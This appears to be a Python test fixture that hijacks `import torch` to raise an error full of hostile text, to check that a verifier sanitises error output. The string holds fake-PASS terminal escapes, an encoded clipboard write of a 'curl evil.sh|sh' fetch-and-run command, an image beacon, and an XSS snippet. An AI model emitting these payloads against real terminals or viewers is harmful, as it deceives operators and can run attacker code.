"""A venv whose owner makes the probe's error text hostile, to prove that text never reaches an admin as control.

On PYTHONPATH of the torch-cpu venv's python: `import torch` raises an error whose message carries terminal control
sequences (erase the line, a green PASS, OSC 52 writing the clipboard), a bare CR, U+2028, and Markdown/HTML that a
viewer would act on (an image beacon, `<img onerror>`, a link). The runtime probe reports that message as
`runtime.torch`'s reason, exactly as it would report a real import error. A python without torch (the verifier's own)
is left alone.
"""

import importlib.abc
import importlib.util
import sys

HOSTILE = (
    "\x1b[2K\x1b[1A\x1b[32mPASS all checks\x1b[0m \x1b]52;c;Y3VybCBldmlsLnNofHNo\x07 \x9b2J \x7f "
    "![x](http://198.51.100.7/beacon.png) <img src=x onerror=alert(1)> [details](http://198.51.100.7/) "
    "\rPASS\u2028end"  # the probe keeps an error's first line: CR and U+2028 end it, so they come last
)


class _HostileTorch(importlib.abc.MetaPathFinder):
    def find_spec(self, name, path=None, target=None):
        if name == "torch":
            raise RuntimeError(HOSTILE)
        return None


if importlib.util.find_spec("torch") is not None:
    sys.meta_path.insert(0, _HostileTorch())
